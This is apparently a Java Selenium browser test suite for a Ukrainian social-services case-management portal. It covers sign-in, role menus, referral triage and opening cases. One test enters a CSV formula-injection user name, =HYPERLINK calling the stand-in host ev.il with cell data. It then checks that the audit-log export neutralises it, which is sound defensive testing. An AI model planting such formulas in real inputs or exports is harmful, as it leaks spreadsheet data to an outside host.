package org.consilium.journey;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import org.consilium.family.FamilyDetails;
import org.consilium.family.FamilyService;
import org.consilium.family.MemberDetails;
import org.consilium.family.Relation;
import org.consilium.family.Sex;
import org.consilium.referral.ReferralDetails;
import org.consilium.referral.ReferralService;
import org.consilium.referral.Urgency;
import org.consilium.testing.MariaDbTest;
import org.consilium.testing.SignedIn;
import org.consilium.testing.TestCases;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Key journeys in a real headless Chromium against the running portal: signing in, the role's home
 * and menu, a refused page, an unknown address, the language, signing out. Screenshots go to
 * {@code target/screenshots}.
 *
 * <p>Needs Debian's {@code chromium} and {@code chromium-driver}; {@code .ci/run} installs them. A
 * developer without them gets this test skipped, CI never does.
 */
@MariaDbTest
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class BrowserJourneyTest {

    @LocalServerPort
    int port;

    @Autowired
    TestCases testCases;

    @Autowired
    SignedIn signedIn;

    @Autowired
    ReferralService referrals;

    @Autowired
    FamilyService families;

    private ChromeDriver driver;

    @BeforeAll
    static void browserInstalled() {
        Chromium.requireInstalled();
    }

    /** A fresh browser (a new session) in the given language; the one before is closed. */
    private void open(String language) {
        closeBrowser();
        driver = Chromium.open(language);
    }

    @AfterEach
    void closeBrowser() {
        if (driver != null) {
            driver.quit();
            driver = null;
        }
    }

    private String url(String path) {
        return "http://localhost:" + port + "/" + path;
    }

    private String pageText() {
        return Chromium.text(driver);
    }

    /** The text of the grid rows on screen: a grid keeps rows it no longer needs in the page, hidden. */
    private String visibleGridText() {
        return (String) ((JavascriptExecutor) driver).executeScript("""
                return [...document.querySelectorAll('vaadin-grid-cell-content')]
                    .filter(c => c.offsetParent !== null).map(c => c.textContent).join(' ');
                """);
    }

    private void waitForText(String expected) {
        Chromium.waitForText(driver, expected);
    }

    private void screenshot(String name) throws IOException {
        Chromium.screenshot(driver, name);
    }

    private void signIn(String username, String password) {
        Chromium.signIn(driver, username, password);
    }

    private List<String> menuEntries() {
        return driver.findElements(By.cssSelector("vaadin-side-nav-item")).stream().map(WebElement::getText).toList();
    }

    @Test
    void a_supervisor_signs_in_in_ukrainian_is_kept_out_of_admin_pages_and_signs_out() throws IOException {
        open("uk");
        driver.get(url("login"));
        waitForText("Демонстраційні облікові записи");
        screenshot("login-uk");

        signIn("supervisor", "wrong-password");
        waitForText("Неправильне ім’я користувача або пароль");

        signIn("supervisor", "demo1234");
        waitForText("Доброго дня, Андрій Мороз");
        assertThat(pageText()).contains("Керівник (супервізор)", "Звернення, що очікують відповіді");
        assertThat(menuEntries()).containsExactly("Моя робота", "Мої зустрічі", "Звернення", "Сім’ї", "Випадки",
                "Панелі показників", "Журнал аудиту");
        screenshot("home-supervisor-uk");

        driver.get(url("admin/users"));
        waitForText("Недоступно для вас");

        driver.get(url("no/such/page"));
        waitForText("Сторінку не знайдено");
        screenshot("not-found-uk");

        driver.get(url(""));
        waitForText("Андрій Мороз");
        Chromium.clickFirst(driver, "vaadin-menu-bar-button", b -> true);
        Chromium.clickFirst(driver, "vaadin-menu-bar-item", item -> item.getText().contains("Вийти"));
        new WebDriverWait(driver, Duration.ofSeconds(30)).until(d -> d.getCurrentUrl().endsWith("/login"));
        waitForText("Увійти");
    }

    @Test
    void an_administrator_in_english_sees_the_admin_menu_and_the_agencies() throws IOException {
        open("en");
        driver.get(url("login"));
        waitForText("Demo accounts");
        screenshot("login-en");
        // Somebody types a spreadsheet formula as the user name.
        String marker = Long.toString(System.nanoTime() % 100000, 36);
        String formula = "=HYPERLINK(\"http://ev.il/?\"&A1)" + marker;
        signIn(formula, "wrong-password");
        waitForText("The user name or the password is wrong");

        signIn("admin", "demo1234");
        waitForText("Good day, Богдан Кравець");
        assertThat(menuEntries()).containsExactly("My work", "Agencies", "Users", "Family categories", "Rules of work", "Outbox", "Audit log");
        screenshot("home-admin-en");

        Chromium.clickFirst(driver, "vaadin-side-nav-item", item -> item.getText().equals("Agencies"));
        waitForText("Загальноосвітня школа № 12");
        screenshot("agencies-en");

        // The audit log's CSV, as the browser downloads it: the typed formula is inert.
        driver.get(url("audit"));
        waitForText("Export CSV");
        Chromium.waitForVaadin(driver);
        String csv = (String) ((JavascriptExecutor) driver).executeAsyncScript("""
                const done = arguments[0];
                const link = [...document.querySelectorAll('a')].find(a => a.textContent.includes('Export CSV'));
                fetch(link.href).then(r => r.arrayBuffer())
                    .then(b => done(new TextDecoder('utf-8', {ignoreBOM: true}).decode(b)));
                """);
        assertThat(csv).startsWith("\uFEFFWhen,User,Action,Record,");
        assertThat(csv.lines().filter(l -> l.contains(marker) && l.contains("HYPERLINK")))
                .singleElement().satisfies(l -> assertThat(l).contains(",\"'" + formula.replace("\"", "\"\"") + "\","));
    }

    @Test
    void a_curator_finds_a_case_in_the_list_and_moves_it_to_the_decision_stage() throws IOException {
        long caseId = testCases.openCaseForDemoCurator();
        open("uk");
        driver.get(url("login"));
        signIn("curator", "demo1234");
        waitForText("Ірина Коваль");
        driver.get(url("case/" + caseId));
        waitForText("Випадок сім’ї Савченко");
        assertThat(pageText()).contains("Первинна оцінка", "Савченко Ігор");

        Chromium.clickFirst(driver, "vaadin-button[data-target='DECISION']", b -> true);
        clickButton("Перевести");
        waitForText("Випадок тепер на етапі «Прийняття рішення»");
        screenshot("case-moved-curator-uk");
        assertThat(driver.findElements(By.cssSelector("vaadin-button[data-target='DECISION']"))).isEmpty();
    }

    /** A new browser in Ukrainian, signed in as a demo account, on its home. */
    private void signInAsDemo(String username, String fullName) {
        open("uk");
        driver.get(url("login"));
        signIn(username, "demo1234");
        waitForText(fullName);
    }

    private void clickButton(String text) {
        Chromium.clickButton(driver, "", text);
    }

    private void type(String tag, String label, String text) {
        Chromium.type(driver, tag, label, text);
    }

    private void pick(String label, String typed, String item) {
        Chromium.pick(driver, label, typed, item);
    }

    @Test
    void a_school_user_reports_a_family_and_intake_finds_it_in_the_triage_queue() throws IOException {
        signInAsDemo("school", "Наталія Гнатюк");
        driver.get(url("my-referrals"));
        waitForText("Повідомити про сім’ю, якій потрібна допомога");
        clickButton("Повідомити про сім’ю, якій потрібна допомога");
        waitForText("Що відбувається");
        clickButton("Зберегти");
        waitForText("Обов’язкове");
        screenshot("report-family-errors-school-uk");

        Chromium.clickFirst(driver, "vaadin-radio-button", r -> r.getText().trim().equals("Термінове"));
        type("vaadin-text-area", "Діти й дорослі, яких це стосується", "Учениця 3-А класу Софія Журба, 9 років");
        type("vaadin-text-area", "Що відбувається", "Тиждень приходить без обіду й у брудному одязі, мати не відповідає.");
        clickButton("Зберегти");
        waitForText("Дякуємо. Звернення передано соціальним службам.");
        waitForText("Учениця 3-А класу Софія Журба");
        assertThat(pageText()).contains("Нове");
        screenshot("report-family-school-uk");

        signInAsDemo("intake", "Олена Савчук");
        driver.get(url("referrals"));
        waitForText("Учениця 3-А класу Софія Журба");
        screenshot("referral-queue-intake-uk");

        driver.get(url("families"));
        waitForText("Ім’я будь-кого з членів сім’ї");
        // The list starts with the first family by name.
        waitForText("Бондаренко");
        type("vaadin-text-field", null, "kovalenko");
        Chromium.retrying(driver, d -> {
            String shown = visibleGridText();
            return shown.contains("Коваленко Марія") && !shown.contains("Бондаренко") ? true : null;
        });
        assertThat(pageText()).contains("Реалізація та моніторинг");
        screenshot("families-intake-uk");
    }

    @Test
    void the_curator_sees_overdue_work_at_home_and_opens_the_overdue_case_and_the_supervisor_sees_the_teams() throws IOException {
        signInAsDemo("curator", "Мої випадки з простроченою роботою");
        waitForText("Бондаренко: Перегляд та оцінювання");
        screenshot("home-curator-overdue-uk");
        Chromium.clickFirst(driver, ".overdue-items a", a -> a.getText().startsWith("Бондаренко"));
        waitForText("Випадок сім’ї Бондаренко");
        // The case's next due is its earliest: the family's task in the plan, past its date, before the review.
        assertThat(pageText()).contains("Найближчий термін", "Завдання «Оформити субсидію в ЦНАП»", "прострочено на 20 днів");
        screenshot("case-overdue-curator-uk");

        signInAsDemo("supervisor", "Випадки команди з простроченою роботою");
        driver.get(url("cases?overdue"));
        waitForText("Бондаренко");
        // The closed Ткаченко case is there too: its first follow-up contact is past its date.
        assertThat(pageText()).contains("Мельник", "Ткаченко", "прострочено");
        screenshot("cases-overdue-supervisor-uk");
    }

    @Test
    void intake_verifies_a_schools_referral_and_links_the_family_then_the_supervisor_opens_the_case() throws IOException {
        String pupil = "Назар Журавель " + Long.toString(System.nanoTime() % 100000, 36).toUpperCase(Locale.ROOT);
        long referralId = signedIn.as("school", () -> {
            ReferralDetails d = new ReferralDetails();
            d.setUrgency(Urgency.URGENT);
            d.setPeopleConcerned(pupil + ", 7-В клас");
            d.setDescription("Пропускає уроки, каже, що доглядає молодших братів.");
            return referrals.submitFromMyAgency(d);
        }).getId();
        signedIn.as("intake", () -> {
            FamilyDetails fd = new FamilyDetails();
            fd.setMembers(List.of(
                    new MemberDetails("Журавель", "Ганна", LocalDate.parse("1985-03-02"),
                            Sex.FEMALE, Relation.MOTHER),
                    new MemberDetails("Журавель", "Назар", LocalDate.parse("2013-09-14"),
                            Sex.MALE, Relation.CHILD)));
            return families.register(fd, true);
        });

        signInAsDemo("intake", "Олена Савчук");
        driver.get(url("referrals?referral=" + referralId));
        waitForText(pupil);
        clickButton("Почати перевірку");
        waitForText("Перевірку розпочато.");
        clickButton("Записати, що перевірено");
        waitForText("Чи вдалося зв’язатися з сім’єю?");
        type("vaadin-text-area", "У кого перевіряли", "Класна керівниця 7-В класу, дільничний офіцер поліції");
        Chromium.clickFirst(driver, "vaadin-radio-button", r -> r.getText().trim().equals("Не вдалося зв’язатися"));
        Chromium.clickFirst(driver, "vaadin-radio-button", r -> r.getText().trim().equals("Інформацію підтверджено"));
        Chromium.clickFirst(driver, "vaadin-checkbox", c -> c.getText().startsWith("Перевірку завершено"));
        screenshot("referral-verification-intake-uk");
        clickButton("Зберегти");
        waitForText("Звернення перевірене й чекає на рішення.");
        waitForText("Класна керівниця 7-В класу, дільничний офіцер поліції");
        screenshot("referral-verified-intake-uk");
        pick("Сім’я, якої стосується звернення", "Журавель", "Журавель Назар");
        clickButton("Прив’язати сім’ю");
        waitForText("Сім’ю прив’язано до звернення.");

        signInAsDemo("supervisor", "Андрій Мороз");
        driver.get(url("referrals?referral=" + referralId));
        waitForText(pupil);
        clickButton("Ухвалити рішення й відкрити випадок");
        waitForText("Виконані критерії");
        pick("Рівень супроводу", "Баз", "Базовий (профілактичний)");
        pick("Модель", "Брок", "Брокерська");
        Chromium.clickFirst(driver, "vaadin-checkbox", c -> c.getText().contains("Понад три проблеми"));
        pick("Кейс-менеджер", "Ірина", "Ірина Коваль");
        // Asked only when the curator is over the model's caseload norm.
        Chromium.waitForVaadin(driver);
        if (driver.findElements(By.cssSelector("vaadin-checkbox")).stream()
                .anyMatch(c -> c.isDisplayed() && c.getText().startsWith("Призначити, хоча"))) {
            Chromium.clickFirst(driver, "vaadin-checkbox", c -> c.getText().startsWith("Призначити, хоча"));
        }
        screenshot("open-case-supervisor-uk");
        clickButton("Відкрити випадок");
        waitForText("Випадок сім’ї Журавель");
        assertThat(pageText()).contains("Первинна оцінка", "Найближчий термін", "Термінове", "Журавель Назар",
                "Первинне звернення", "Інформацію підтверджено");
        screenshot("case-opened-supervisor-uk");
    }
}
